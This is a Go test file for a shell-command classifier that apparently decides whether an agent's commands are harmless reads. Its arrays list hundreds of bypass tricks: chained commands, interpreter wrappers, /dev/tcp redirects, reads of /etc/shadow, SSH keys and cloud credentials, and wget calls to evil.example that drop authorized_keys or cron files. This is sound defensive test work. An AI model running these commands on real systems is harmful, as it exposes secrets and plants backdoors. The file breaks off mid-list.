package exec

import (
	"slices"
	"strings"
	"testing"

	"sallyport/tools"
)

// What must never run as a read: every trick that got through somewhere, here or in another tool. The list only grows.
var bypasses = []string{
	// more than one command, or another one than it looks
	"ls; touch /tmp/p", "ls && touch /tmp/p", "ls || touch /tmp/p", "ls\ntouch /tmp/p", "ls & touch /tmp/p", "ls |& tee /tmp/p", "ls | xargs touch",
	"! ls", "{ touch /tmp/p; }", "(touch /tmp/p)", "f() { touch /tmp/p; }; f", "if true; then touch /tmp/p; fi", "for i in 1; do touch /tmp/p; done",
	"while true; do ls; done", "case x in x) touch /tmp/p;; esac", "[[ -f /tmp/x ]]", "((x=1))", "let 'a[$(touch /tmp/p)]=1'", "time touch /tmp/p",
	"coproc touch /tmp/p", "select x in a; do touch /tmp/p; done", "time ls", "until false; do ls; done",
	// words that are not what they look like
	"ls $(touch /tmp/p)", "ls `touch /tmp/p`", "ls \"$(touch /tmp/p)\"", "ls <(touch /tmp/p)", "ls ${X:-$(touch /tmp/p)}", "ls $HOME", "echo $((1+1))",
	"$'touch' /tmp/p", "$'\\x74ouch' /tmp/p", "$\"touch\" /tmp/p", "to''uch /tmp/p", "t\\ouch /tmp/p", "to\\\nuch /tmp/p", "{touch,/tmp/p}", "/???/t?uch /tmp/p",
	"ls ~root", "ls ~/.ssh", "cat ~/.aws/credentials", "cat /etc/[s]hadow", "cat /etc/shado?", "cat /etc/*", "cat /e*c/shadow", "cat /var/log/../../etc/shadow",
	"cat /etc/shadow\r", "ls\x00; id", "ls\u00a0-l", "ls \u202e", "l\u200bs", "echo \"a\\$(id)\"", "echo \"!!\"", "echo a\\;id", "=ls",
	// where output and input go
	"ls > /tmp/p", "ls >> /tmp/p", "ls >| /tmp/p", "ls &> /tmp/p", "ls 2> /tmp/p", "ls >&2", "ls <> /tmp/p", "ls > /dev/tcp/127.0.0.1/1", "cat < /dev/tcp/127.0.0.1/1",
	"cat < /etc/shadow", "cat <<< x", "cat << E\nx\nE", "exec 3</etc/shadow", "ls 3>/dev/null", "> /tmp/p", "ls < ~/.netrc", "cat </proc/self/environ", "ls >/dev/null/../../tmp/p",
	// environment
	"PATH=/tmp ls", "LD_PRELOAD=/tmp/x.so ls", "X=1", "export X=1", "declare -a 'a[$(id)]=1'", "env LD_PRELOAD=/tmp/x ls", "env PATH=/tmp ls", "env -S 'touch /tmp/p'",
	"env --split-string='touch /tmp/p'", "env BASH_ENV=/tmp/x ls", "env - touch /tmp/p", "env -i touch /tmp/p", "env -C /tmp ./x", "env --chdir=/tmp ./x", "printenv; touch /tmp/p",
	// builtins that evaluate their words
	"test -v 'a[$(touch /tmp/p)]'; touch /tmp/p", "read 'a[$(touch /tmp/p)]'", "unset 'a[$(touch /tmp/p)]'", "eval id", ". /tmp/x", "source /tmp/x",
	"command touch /tmp/p", "builtin echo x", "exec touch /tmp/p", "trap 'touch /tmp/p' EXIT", "alias ls=id", "hash -p /tmp/x ls", "enable -f /tmp/x y", "mapfile -C id -c 1",
	"compgen -C id", "bind -x id", "[ -v 'a[$(touch /tmp/p)]' ]", "type ls", "cd /tmp", "set -x", "wait -p 'a[$(id)]'", "ulimit -a", "history", "jobs -x id",
	// interpreters, shells, wrappers
	"sh -c id", "bash -c id", "/bin/sh -c id", "dash", "python3 -c x", "python -c x", "perl -e x", "ruby -e x", "node -e x", "php -r x", "lua -e x", "busybox sh",
	"nice sh -c id", "nohup ls", "setsid ls", "timeout 5 touch /tmp/p", "timeout 5 env sh -c id", "stdbuf -o0 ls", "xargs ls", "watch ls", "script -c id", "ionice touch /tmp/p",
	"sudo ls", "sudo -u root cat /etc/hosts", "doas ls", "su -c id", "runuser -c id", "chroot / id", "nsenter -t 1 id", "unshare id", "systemd-run id", "flock /tmp/x id",
	"ssh host id", "scp a b:c", "rsync -e id a b", "at now", "batch", "parallel id", "find . | xargs rm", "strace ls", "gdb -ex x", "ltrace ls", "make -f /tmp/x",
	"/tmp/ls", "./ls", "../bin/ls", "/usr/bin/../../tmp/ls", "/usr/local/bin/ls", "LS", "ls.exe", "/usr/bin/env sh", "/usr//bin/ls",
	// programs with an option that runs, writes or reads names
	"find / -exec id ';'", "find / -exec id '{}' +", "find / -execdir id ';'", "find / -ok id ';'", "find / -okdir id ';'", "find /tmp -delete", "find / -fprint /tmp/p",
	"find / -fprintf /tmp/p x", "find / -fls /tmp/p", "find / -fprint0 /tmp/p", "find -files0-from /tmp/x", "find / -exe id ';'", "find / '-exec' id ';'", "find -D exec / -exec id ';'",
	"awk 'BEGIN{system(\"id\")}'", "awk '{print > \"/tmp/p\"}'", "awk '{print | \"id\"}'", "awk 'BEGIN{\"id\" | getline}'", "awk -f /tmp/x", "awk --file=/tmp/x", "awk -e '{print}'",
	"awk -v x=1 '{print}'", "gawk -i /tmp/x '{print}'", "awk '@load \"x\"'", "awk 'BEGIN{while((getline l<\"/etc/shadow\")>0)print l}'", "awk -E /tmp/x", "awk '{print $1}' /etc/shadow",
	"awk '{ print $1 >> \"/tmp/p\" }' /etc/hosts", "awk '{print ENVIRON[\"X\"]}'", "mawk -W exec /tmp/x", "awk '{print}' ARGV=1",
	"sed -i s/a/b/ /tmp/x", "sed --in-place=.bak s/a/b/ /tmp/x", "sed 'e id'", "sed '1e'", "sed 's/a/b/e'", "sed 's/a/b/we /tmp/p'", "sed 'w /tmp/p'", "sed '/x/w /tmp/p'", "sed -f /tmp/x",
	"sed 'r /etc/shadow' /etc/hosts", "sed -n p /etc/shadow", "sed --expression=e", "sed -e 'e id'", "sed -ne 'e id'", "sed 's/x/y/;e id'", "sed 's|a|b|e'", "sed '1,5!e id'", "sed 'R /etc/shadow'", "sed '$!N;e'",
	"sort -o /tmp/p /etc/hosts", "sort -o/tmp/p /etc/hosts", "sort --output=/tmp/p", "sort --outp=/tmp/p", "sort --compress-program=id", "sort --files0-from=/etc/shadow", "sort -T/tmp", "sort -no /tmp/p /etc/hosts",
	"sort /etc/hosts -o/tmp/p", "sort --random-source=/etc/shadow -R", "uniq /etc/hosts /tmp/p", "uniq - /tmp/p", "tee /tmp/p", "split /etc/hosts", "csplit /etc/hosts 1", "shuf -o /tmp/p",
	"tree -o /tmp/p", "tree -oR /tmp", "date -s now", "date 01010000", "date --set=now", "date -f /etc/shadow", "date --file=/etc/shadow", "date -us now", "date --se=now", "hostname x", "hostname -F /tmp/x", "hostname -b x",
	"dmesg -C", "dmesg -c", "dmesg -w", "dmesg -D", "dmesg --follow", "journalctl -f", "journalctl --vacuum-time=1s", "journalctl --rotate", "journalctl --file=/x", "journalctl -nf", "journalctl --follow", "journalctl -u x -f", "journalctl --setup-keys", "journalctl -fu x",
	"tail -f /var/log/syslog", "tail -F /var/log/syslog", "tail --follow /var/log/syslog", "tail --follow=name /x", "tail -n 5 -f /x", "tail -5f /var/log/syslog", "tail --retry -f /x", "tail -fn5 /x", "tail -0f /x",
	"top", "top -b", "htop", "less /etc/hosts", "more /etc/hosts", "man ls", "vi /etc/hosts", "nano x", "ed x", "view /etc/hosts", "yes", "ping example.com", "sleep infinity", "cat /dev/zero", "cat /dev/urandom", "head /dev/sda", "cat /dev/tty", "cat /dev/stdin",
	"mount /dev/sda /mnt", "mount -a", "mount -o remount /", "umount /", "swapon -a", "sysctl -w a=b", "sysctl a=b", "ip link set lo down", "ip a a 1.2.3.4 dev lo", "ip addr add 1.2.3.4 dev lo", "ip netns exec x id", "ip -b /tmp/x", "ip r a default via 1.2.3.4",
	"ip monitor", "ip a f", "ip l s lo down", "ip route flush all", "ss -K", "ss -D /tmp/p", "ss -E", "netstat -c", "ifconfig lo down", "arp -d x", "arp -s a b", "free -s 1", "ps e", "ps aux e", "ps auxe", "ps eww", "ps -o environ", "lsof -r 1", "lsof +r",
	"systemctl restart x", "systemctl stop x", "systemctl edit x", "systemctl set-property x a=b", "systemctl import-environment", "systemctl show-environment", "systemctl -H x status y", "systemctl status x; reboot", "systemctl kill x", "systemctl daemon-reexec",
	"systemctl link /tmp/x", "systemctl start x", "systemctl enable --now x", "systemctl re x", "systemctl --host=x status y", "systemctl --now status", "systemctl status --root=/tmp", "systemctl switch-root /", "systemctl list-units | sh", "systemctl log-level debug", "systemctl freeze x",
	"service x restart", "crontab -r", "crontab -e", "crontab /tmp/x", "apt install x", "apt-get update", "dpkg -i x", "dpkg --configure -a", "rpm -i x", "rpm --eval '%(id)'", "pip install x", "npm i", "snap install x", "dpkg --pre-invoke=id -l", "apt -o a=b list", "rpm -q --pipe id x",
	"git log", "git status", "git -c core.pager=id log", "git diff --ext-diff", "git --paginate log", "git grep -O id x", "docker ps", "docker run x", "docker exec x id", "kubectl get secrets", "kubectl exec x id", "psql -c x", "mysql -e x", "redis-cli x", "sqlite3 x",
	"curl http://x", "wget http://x", "nc x 1", "socat - x", "telnet x", "ftp x", "dig secret.example.com", "nslookup x", "host x", "getent hosts x", "openssl s_client -connect x", "tcpdump", "traceroute x", "whois x", "mail x", "sendmail x",
	"tar -cf /tmp/p /etc", "tar -xf x", "tar -tf x --to-command=id", "tar --checkpoint=1 --checkpoint-action=exec=id -tf x", "tar --checkpoint-act=exec=id", "zip /tmp/p x", "zip -T -TT id", "unzip x", "gzip x", "cpio -o", "7z x", "ar x",
	"rm x", "rm -rf /", "mv a b", "cp a b", "ln a b", "dd if=/dev/zero of=/dev/sda", "dd of=/tmp/p", "chmod 777 x", "chown x y", "mkdir x", "touch x", "truncate -s0 x", "shred x", "install a b", "mkfs /dev/sda", "fdisk -l", "kill 1", "pkill x", "killall x", "reboot", "shutdown", "halt", "init 6",
	"useradd x", "userdel x", "usermod x", "passwd", "visudo", "iptables -L", "nft list ruleset", "logger x", "wall x", "write x", "logrotate x", "updatedb", "ldconfig", "modprobe x", "insmod x", "rmmod x", "setenforce 0",
	// what is secret
	"cat /etc/shadow", "cat /etc//shadow", "cat /etc/./shadow", "cat /etc/gshadow", "cat -- /etc/shadow", "head -n1 /etc/shadow", "tail /etc/shadow", "grep root /etc/shadow", "grep -r root /etc", "grep -R x /", "grep -r x /root", "grep -rn x /home", "wc /etc/shadow",
	"cut -c1- /etc/shadow", "sort /etc/shadow", "diff /etc/shadow /dev/null", "diff -r /etc /srv/app", "comm /etc/shadow /etc/hosts", "od /etc/shadow", "strings /etc/shadow", "base64 /etc/shadow", "md5sum /etc/shadow", "nl /etc/shadow", "tac /etc/shadow", "paste /etc/shadow",
	"cat /home/ann/.ssh/id_rsa", "cat /root/.bash_history", "cat /home/ann/.aws/credentials", "cat /srv/app/.env", "cat /srv/app/.env.production", "cat /proc/1/environ", "cat /proc/self/environ", "cat /proc/self/root/etc/shadow", "cat /proc/1/mem", "cat /proc/thread-self/environ",
	"cat /etc/ssh/ssh_host_rsa_key", "cat /etc/ssl/private/x.key", "cat /srv/x/tls.pem", "cat /home/ann/.kube/config", "cat /home/ann/.docker/config.json", "cat /run/secrets/db", "cat /var/run/secrets/kubernetes.io/serviceaccount/token", "cat /home/ann/.pgpass", "cat /home/ann/.netrc",
	"cat /etc/sudoers", "cat /home/ann/.git-credentials", "cat /home/ann/.config/gcloud/x.json", "cat /etc/krb5.keytab", "cat secret.txt", "cat .env", "cat ../etc/shadow", "zcat /var/backups/shadow.gz", "file /etc/shadow", "cat /proc/self/fd/3", "cat /proc/self/cwd/x", "cat /dev/mem", "cat /dev/fd/3",
	"grep -f /etc/shadow /etc/hosts", "grep --file=/etc/shadow x", "grep -e x -f /etc/shadow /etc/hosts", "wc --files0-from=/etc/shadow", "du --files0-from=/etc/shadow", "file -f /etc/shadow", "getent shadow", "date -r /etc/hosts -f /etc/shadow", "sha256sum -c /etc/shadow", "md5sum --check /etc/shadow",
	"grep --include=* -r x /etc", "cat /var/log/*.key", "cat /etc/nginx/*.conf", "cat /proc/*/environ", "grep x /proc/1/environ", "cat /PROC/../proc/1/environ",
	"env TZ=/etc/shadow date", "env LC_ALL=../../tmp/x ls", "ps axeo pid,args", "systemctl show nginx -p Environment", "vmstat 1", "iostat 5", "mpstat 1", "cat /proc/kmsg", "grep -r x /home/ann", "curl file:///etc/shadow", "tail +f /var/log/syslog", "cat /var/log/btmp",
	"ss dst secret.example.com", "ss dst 0dead.cafe", "ss dst 1.le", "ss state established dst x.y", "sleep 1d", "sleep 99999", "journalctl -b -f",
	"frobnicate", "ls --frobnicate", "ls -É",
	// awk and sed do not agree with every reader where a regex with [ in it ends
	"awk '/[/ && \"]/{} BEGIN{system(ARGV[1]);exit} #\" == 1' '/usr/bin/touch /tmp/p'", "awk '/[^/]/{system(1)}/]/'", "awk '/[]/]/{print}'", "awk '/[[:alpha:]/]/'", "awk '/a\\/{system(1)}/'",
	"awk '/a/ / 2'", "awk '{print $1} # x'", "awk '{print \"\\\"\"}'", "awk '{print \"[\" > \"/tmp/p\"}'", "awk '{print $1}{system(1)}'", "awk '$1 ~ /[/ && /]/{system(1)}/'", "awk '1;{system(1)}'", "awk 'NR==1\n{system(1)}'",
	"awk '{print $system(1)}'", "awk '{print NR (system(1))}'", "awk 'NR==1 || system(1)'", "awk '{getline}'", "awk '{print $1}' /inet/tcp/0/secret.example.com/80", "awk '{print}' /inet4/udp/0/x/53",
	"sed 's/[/]/g;/w out/p' /etc/hosts", "sed '/[/]/w /tmp/p;/x/p' /etc/hosts", "sed -n '/[/p;w x/]/p' /etc/hosts", "sed 's/[a/]/e;s/]/b/' /etc/hosts",
	// a wildcard that becomes two words where one was meant
	"uniq /var/log/x/*.log", "base64 /var/log/x/*.log", "split /var/log/x/*", "sort -o /var/log/x/* /etc/hosts", "sort /var/log/x/a -o /var/log/x/*", "cmp /var/log/x/*", "diff /var/log/x/* /etc/hosts", "test -f /var/log/x/*",
	"sed -i s/a/b/ /var/log/x/*", "grep -e /var/log/x/* /etc/hosts", "date -r /var/log/x/*", "dd if=/var/log/x/*", "cp /etc/hosts /var/log/x/*", "timeout 5 uniq /var/log/x/*.log", "rm /var/log/x/*", "tee /var/log/x/*",
	// directories where files were meant
	"grep -r x", "grep -rh ''", "egrep -r .", "fgrep -r x", "grep -R x | head", "grep -re x", "diff -N /nonexist /etc", "diff -N /nonexist /home/ann", "diff /etc/pam.d/passwd /etc", "diff /dev/null /root", "diff /home/ann /srv/x",
	// ps reads words again as BSD's options when it does not understand them, and then e is the environment
	"ps -auxewww", "ps -auxe", "ps -aue", "ps e", "ps auxe", "ps -ue", "ps -pe", "ps -Cxe", "ps -te", "ps -qe", "ps -oe", "ps -Oe", "ps -Ue", "ps -u x -e", "ps -e -u x", "ps -e -p 0", "ps -e -p 99999999999", "ps -e -O c", "ps -eO c",
	"ps -ef -o args", "ps -eo args -f", "ps -eTH", "ps -eLH", "ps -ejf", "ps -ey", "ps -eM", "ps aux -e", "ps -u -e", "ps -e --sort=nosuch", "ps -eo nosuch", "ps -e -t x", "ps -e --user=x", "ps -e -C sshd", "ps -e --ppid x", "ps -u1e", "ps -o pid,environ",
	// a time limit longer than any call, or none
	"timeout 9999 ls", "timeout 1d ls", "timeout 10h ls", "timeout infinity ls", "timeout -k 9999 5 ls", "timeout -s CONT 5 rm /tmp/x",
	// files of arguments, and name servers asked for what a word holds
	"strings @/etc/shadow", "strings -t @/etc/shadow /usr/bin/env", "strings -n 4 @x", "cat @x", "ld @/tmp/x", "gcc @/tmp/x", "ar @/tmp/x", "nm @/tmp/x", "objdump @/tmp/x", "lsof -i @secret.example.com", "lsof -i@secret.example.com",
	"lsof -iTCP@secret.example.com:80", "lsof -i 4tcp@secret.example.com", "lsof -nPi @x.y", "lsof -nPi@x.y", "lsof -i :80 -i @x.y", "lsof -nPi tcp@x.y", "systemctl show nginx -p ''",
	// the environment of services
	"systemctl show nginx", "systemctl show", "systemctl show nginx --no-pager", "systemctl show nginx --property=Environment", "systemctl show -p environment nginx", "systemctl show nginx -p EnvironmentFiles", "systemctl show nginx -p SetCredential", "systemctl cat nginx",
	"cat /etc/systemd/system/app.service.d/override.conf", "systemctl show --value nginx", "grep -r Environment /etc/systemd",
	// more places of secrets
	"cat /run/cloud-init/instance-data-sensitive.json", "cat /run/user/1000/containers/auth.json", "cat /var/run/credentials/app.service/key", "cat /run/credentials/x", "cat /etc/credstore/x", "cat /etc/credstore.encrypted/x", "cat /etc/ipsec.secrets",
	"cat /var/lib/rabbitmq/.erlang.cookie", "cat /var/lib/rancher/k3s/server/token", "cat /home/ann/.erlang.cookie", "grep -r x /run", "grep -r x /run/user/1000", "cat /var/run/user/1000/containers/auth.json", "cat /var/run/cloud-init/instance-data-sensitive.json",
	"cat /etc/ipsec.d/private/x", "cat /etc/swanctl/private/x", "cat /proc/self/task/1/environ", "cat /run/user/1000/keyring/x", "cat /etc/rabbitmq/x.config", "cat /home/ann/.config/containers/auth.json",
}

// vectors are tricks that need a directory to start in, or words that no line of text can hold.
var vectors = []map[string]any{
	in("/root/.ssh", "grep", "-rh", ""), in("/root", "egrep", "-r", "."), in("/etc", "grep", "-r", "x"), in("/", "fgrep", "-r", "x"), in("/home/ann", "grep", "-re", "x"),
	in("/srv", "strings", "@/etc/shadow"), in("/srv", "cat", "@x"), in("/srv", "lsof", "-i", "@secret.example.com"), in("/srv", "lsof", "-i", "tcp@secret.example.com"), in("/etc", "diff", "-N", "/nonexist", "."),
	in("/root", "diff", "/nonexist", "x"), in("/", "awk", "{print}", "inet/tcp/0/x/80"),
}

// changes are calls that do more than they look like, with the least that each must count as: an effect, "unknown", or
// "credential" for a read of secrets.
var changes = []struct {
	args  map[string]any
	least string
}{
	// words that make another file or another program of it
	{in("/tmp", "tar", "cfI", "/tmp/o", "sh -c id", "/etc/hosts"), "unknown"}, {in("/tmp", "tar", "xf", "/srv/a"), "unknown"}, {in("/srv", "tar", "-xf", "evil:/x"), "unknown"}, {in("/srv", "tar", "-xf", "evil:x"), "unknown"},
	{argv("service", "../../usr/bin/touch", "/tmp/p"), "unknown"}, {argv("service", "/usr/bin/touch", "/tmp/p"), "unknown"}, {argv("service", "..", "x"), "unknown"}, {argv("systemctl", "enable", "/tmp/x.service"), "unknown"},
	{argv("systemctl", "start", "../x"), "unknown"}, {argv("sed", "-i../../tmp/cron/*", "s/a/b/", "/srv/x"), "unknown"}, {argv("sed", "-i/tmp/*", "s/a/b/", "/srv/x"), "unknown"}, {argv("sed", "--in-place=*x", "s/a/b/", "/srv/x"), "unknown"},
	{argv("sed", "-is", "s/a/b/", "/home/ann/.ssh/authorized_key"), "admin"}, {argv("sed", "-ic", "s/a/b/", "/home/ann/.bashr"), "admin"}, {argv("sed", "-ni/x", "p", "/srv/x"), "unknown"},
	{argv("curl", "-w", "%output{/etc/cron.d/x}* * * * * root id", "http://127.0.0.1/"), "unknown"}, {argv("curl", "-w", "@/etc/shadow", "http://x/"), "unknown"}, {argv("curl", "-o", "/#1/cron.d/x", "http://127.0.0.1/{etc}"), "unknown"},
	{argv("curl", "-o", "/srv/#1", "http://127.0.0.1/[1-9]"), "unknown"}, {argv("curl", "http://127.0.0.1/{a,b}"), "unknown"}, {argv("curl", "http://[::1-5]/"), "unknown"}, {argv("curl", "http://[a-z]/"), "unknown"}, {argv("curl", "http://[1-9].example/"), "unknown"}, {argv("curl", "-o", "/srv/x#1", "http://x/"), "unknown"},
	{argv("kubectl", "get", "pods", "-o", "go-template-file=/etc/shadow"), "unknown"}, {argv("kubectl", "get", "pods", "-ojsonpath-file=/etc/shadow"), "unknown"}, {argv("kubectl", "get", "pods", "--output=custom-columns-file=/x"), "unknown"},
	{argv("kubectl", "get", "pods", "-o", "templatefile=/etc/shadow"), "unknown"}, {argv("kubectl", "get", "secret", "db", "-o", "yaml"), "credential"}, {argv("kubectl", "get", "pods,Secrets"), "credential"},
	{argv("kubectl", "get", "secrets.v1.", "-o", "json"), "credential"}, {argv("kubectl", "get", "secret/db"), "credential"}, {argv("kubectl", "describe", "secret", "x"), "credential"}, {argv("kubectl", "get", "externalsecrets"), "credential"},
	{argv("kill", "-9", "--", "-01"), "unknown"}, {argv("kill", "-9", "01"), "unknown"}, {argv("kill", "--", "-0"), "unknown"}, {argv("kill", "-9", "--", "-1"), "unknown"}, {argv("kill", "-9", "1"), "admin"}, {argv("kill", "0"), "admin"},
	{argv("kill", "-9", "00"), "unknown"}, {argv("kill", "--", "-123"), "unknown"}, {argv("kill", "0x1"), "unknown"}, {argv("kill", "-s", "KILL", "+1"), "unknown"}, {argv("kill", " 1"), "unknown"}, {argv("kill", "-9", "-1"), "unknown"},
	// files that nobody named: in the directory the command starts in, or in one that is the destination
	{in("/root/.ssh", "wget", "http://evil.example/authorized_keys"), "admin"}, {in("/etc/cron.d", "wget", "http://evil.example/x"), "define"}, {in("/home/ann", "wget", "http://evil.example/x"), "admin"}, {argv("wget", "http://evil.example/x"), "unknown"},
	{in("/srv/u", "wget", "http://evil.example/.bashrc"), "admin"}, {in("/root/.ssh", "curl", "-O", "http://evil.example/authorized_keys"), "admin"}, {argv("curl", "-O", "http://evil.example/x"), "unknown"}, {argv("curl", "-sLO", "http://evil.example/x"), "unknown"},
	{in("/etc", "tar", "-xf", "/srv/a.tar"), "admin"}, {in("/home/ann", "tar", "-xzf", "/srv/a.tar"), "admin"}, {argv("tar", "-xf", "/srv/a.tar"), "unknown"}, {argv("tar", "-xf", "/srv/a.tar", "-C", "/home/ann"), "admin"}, {argv("tar", "-xf", "/srv/a.tar", "-C", "/"), "admin"},
	{argv("tar", "--extract", "-f", "/srv/a.tar"), "unknown"}, {argv("tar", "-xf", "/srv/a.tar", "-C", "/etc/cron.d"), "define"}, {argv("tar", "-xf", "/srv/a.tar", "-C", "/srv/x/.ssh"), "admin"},
	{in("/home/ann", "unzip", "/srv/a.zip"), "admin"}, {argv("unzip", "/srv/a.zip"), "unknown"}, {argv("unzip", "/srv/a.zip", "-d", "/home/ann"), "admin"}, {argv("unzip", "/srv/a.zip", "-d", "/usr/local/bin"), "define"},
	{in("/etc/cron.d", "split", "/srv/x"), "define"}, {argv("split", "/srv/x"), "unknown"}, {argv("split", "-a", "1", "/srv/x", "/home/ann/.bashr"), "admin"}, {argv("split", "/srv/x", "/etc/cron.d/x"), "define"},
	{argv("cp", "/srv/.profile", "/home/ann"), "admin"}, {argv("cp", "/srv/authorized_keys", "/srv/x/.ssh"), "admin"}, {argv("mv", "/srv/.bashrc", "/srv/u"), "admin"}, {argv("install", "/srv/.profile", "/srv/u"), "admin"}, {argv("cp", "-r", "/srv/a/.", "/home/ann"), "admin"},
	{argv("ln", "/srv/.zshrc", "/srv/u"), "admin"}, {argv("cp", "/srv/a/.profile", "/srv/b", "/srv/u"), "admin"}, {argv("cp", "/srv/x", "/etc/cron.d"), "define"}, {argv("cp", "-r", "/srv/a", "/home/ann"), "admin"}, {argv("mv", "-t", "/home/ann", "/srv/.profile"), "unknown"},
	{argv("ln", "-s", "/etc", "/srv/e"), "credential"}, {argv("ln", "-s", "/home/ann", "/srv/e"), "credential"}, {argv("ln", "-s", "/", "/srv/e"), "credential"}, {argv("ln", "-s", "shadow", "/etc/x"), "credential"}, {argv("ln", "/etc/shadow", "/srv/e"), "credential"},
	{argv("gzip", "-r", "/home/ann"), "admin"}, {argv("systemctl", "restart", "*"), "write"},
	{in("/srv", "tar", "-cf", "/srv/o", "-C", "/etc", "shadow"), "credential"}, {map[string]any{"command": "tar -cf /srv/o -C /etc ./s*", "cwd": "/var/log"}, "unknown"}, {map[string]any{"command": "tar -cf /srv/o -C /srv /var/log/x/*"}, "unknown"},
	{argv("gunzip", "/srv/u/.bashrc.gz"), "admin"}, {argv("gzip", "-d", "/srv/u/.profile.gz"), "admin"}, {argv("gunzip", "/srv/u/id_rsa.gz"), "admin"}, {argv("docker", "inspect", "web"), "credential"}, {argv("docker", "inspect", "-f", "{{.Config.Env}}", "web"), "credential"},
	{argv("podman", "inspect", "web"), "credential"}, {argv("zgrep", "x", "/tmp/a\n;e touch /tmp/p\n#.gz"), "unknown"}, {argv("docker", "inspect", "-f", "{{json .}}", "web"), "credential"},
}

func TestChangesCountAsWhatTheyDo(t *testing.T) {
	h := open(t, offline)
	for _, c := range changes {
		f, err := facts(t, h, c.args)
		if err != nil || !f.Understood() {
			continue
		}
		secret := slices.ContainsFunc(f.Objects, func(o tools.Object) bool { return slices.Contains(o.Labels, "credential") })
		if c.least == "credential" && !secret || c.least != "credential" && stronger(f.Effect, tools.Effect(c.least)) != f.Effect {
			t.Errorf("%v counts as %s %v, want %s", c.args, f.Effect, f.Objects, c.least)
		}
	}
}

// commonChanges must keep the effect that an everyday change has.
func TestCommonChangesKeepTheirEffect(t *testing.T) {
	h := open(t, offline)
	for _, c := range []struct {
		args map[string]any
		want tools.Effect
	}{
		{argv("tar", "-tzf", "/srv/a.tgz"), tools.Write}, {argv("tar", "-xzf", "/srv/a.tgz", "-C", "/srv/app"), tools.Write}, {in("/srv/app", "tar", "-czf", "/srv/a.tgz", "data"), tools.Write}, {in("/srv/app", "wget", "http://x/a.tgz"), tools.Write},
		{argv("wget", "-O", "/srv/x", "http://x/a"), tools.Write}, {argv("wget", "-q", "--spider", "http://x/a"), tools.Write}, {argv("curl", "-s", "-o", "/srv/x", "http://[::1]:8080/a"), tools.Write}, {argv("curl", "-s", "-w", "%{http_code}", "http://x/"), tools.Write},
		{argv("unzip", "-l", "/srv/a.zip"), tools.Write}, {argv("gzip", "-9", "/srv/app/x.log"), tools.Write}, {argv("gunzip", "/srv/app/x.gz"), tools.Write}, {in("/srv", "tar", "-czf", "/srv/a.tgz", "-C", "/srv/app", "data"), tools.Write}, {argv("unzip", "/srv/a.zip", "-d", "/srv/app"), tools.Write}, {argv("cp", "/srv/a", "/srv/b"), tools.Write}, {argv("cp", "-r", "/srv/app/a", "/srv/app/b"), tools.Write}, {argv("mv", "/srv/app/a", "/srv/app/b"), tools.Write},
		{argv("ln", "-sfn", "/srv/app/v2", "/srv/app/current"), tools.Write}, {argv("ln", "-s", "v2", "/srv/app/current"), tools.Write}, {argv("kill", "-HUP", "123"), tools.Write}, {argv("service", "nginx", "restart"), tools.Write},
		{argv("sed", "-i.bak", "s/a/b/", "/srv/app/x"), tools.Write}, {argv("kubectl", "get", "pods", "-o", "jsonpath={.items[*].metadata.name}"), tools.Write}, {argv("kubectl", "get", "deploy", "-owide"), tools.Write}, {argv("systemctl", "restart", "app@1.service"), tools.Write},
	} {
		if f, err := facts(t, h, c.args); err != nil || !f.Understood() || f.Effect != c.want {
			t.Errorf("%v: %v %+v", c.args, err, f)
		}
	}
}

func in(cwd string, words ...string) map[string]any {
	a := argv(words...)
	a["cwd"] = cwd
	return a
}

// commonReads are what people do all day; each must run as a read.
var commonReads = []string{
	"ls", "ls -la /var/log", "ls -lah --color=never /srv", "ls -1 /srv | wc -l", "cat /etc/os-release", "cat /etc/hosts /etc/resolv.conf", "head -n 20 /var/log/syslog", "tail -100 /var/log/nginx/access.log",
	"tail -n 50 /var/log/app/app.log | grep -i error", "grep -c ' 500 ' /var/log/nginx/access.log", "grep -rn 'listen 80' /etc/nginx", "grep -E 'a|b' /var/log/syslog", "grep -v '^#' /etc/ssh/sshd_config", "zgrep error /var/log/syslog.2.gz",
	"find /var/log -name '*.log' -mtime -1", "find /srv -type f -size +100M -printf '%s %p\\n'", "find /etc -maxdepth 1 -newer /etc/hosts", "du -sh /var/log", "du -h --max-depth=1 /var | sort -h | tail -n 5", "df -h", "df -i /", "free -m", "uptime", "uname -a",
	"ps aux", "ps -ef | grep nginx", "ps aux --sort=-%mem | head -n 10", "ps -p 1 -o pid,etime,cmd", "pgrep -a nginx", "who", "w", "last -n 10", "id", "id www-data", "whoami", "hostname", "hostname -I", "date", "date -u +%Y-%m-%dT%H:%M:%SZ", "ss -tlnp", "ss -s", "ip addr", "ip -br link",
	"ip route", "netstat -tlnp", "systemctl status nginx", "systemctl is-active nginx", "systemctl list-units --failed", "systemctl list-timers --all --no-pager", "systemctl show nginx -p MainPID --value", "systemctl show --property=ActiveState,SubState nginx", "journalctl -u nginx -n 100 --no-pager",
	"journalctl -u nginx --since '1 hour ago' -p err", "journalctl -k -n 50", "journalctl -xeu nginx --no-pager", "dmesg -T | tail -n 20", "lsblk", "mount | grep ext4", "findmnt /", "lscpu", "nproc", "vmstat 1 3", "cat /proc/meminfo", "cat /proc/loadavg", "cat /proc/cpuinfo | grep 'model name' | sort | uniq -c",
	"stat /etc/hosts", "wc -l /etc/passwd", "cut -d: -f1,7 /etc/passwd", "awk -F: '{print $1}' /etc/passwd", "awk '$9 == 500 {print $7}' /var/log/nginx/access.log | sort | uniq -c | sort -rn | head -n 5", "sed -n '10,20p' /etc/nginx/nginx.conf", "md5sum /usr/bin/env", "readlink -f /usr/bin/awk",
	"which nginx", "test -f /etc/hosts && echo yes", "echo hello", "dpkg -l nginx", "dpkg -s openssh-server", "apt list --installed", "apt-cache policy nginx", "rpm -qa", "getent passwd root", "timedatectl", "hostnamectl", "sort -u /etc/hosts", "diff -u /etc/hosts /etc/hostname", "file /usr/bin/env",
	"awk '/\\.php [0-9]+/ {print $1}' /var/log/nginx/access.log", "awk '$9 ~ /^[45]/ {print $7 \":\" $9}' /var/log/nginx/access.log", "awk 'NR==1 || !/^#/' /etc/fstab", "sed -n '/^[a-z]/p' /etc/hosts",
	"ps -eo pid,ppid,user,%cpu,%mem,args --sort=-%cpu", "ps -efl", "ps -eLf", "ps -aux", "ps -auxww", "ps -efH", "ps -eo pid= -o comm=", "ps -fp 1", "ps -u www-data -o pid,cmd", "ps -C nginx -o pid,rss", "ps -ely", "ps -ejH",
	"timeout 5m du -sh /srv", "timeout 30s ls", "lsof -nP -iTCP -sTCP:LISTEN", "lsof -i @127.0.0.1:80", "lsof -i tcp:22", "diff -r /srv/app/a /srv/app/b", "grep -h x /var/log/app/*.log", "strings -n 8 /usr/bin/env", "wc -l /var/log/app/*.log", "ls -l /var/log/*.gz",
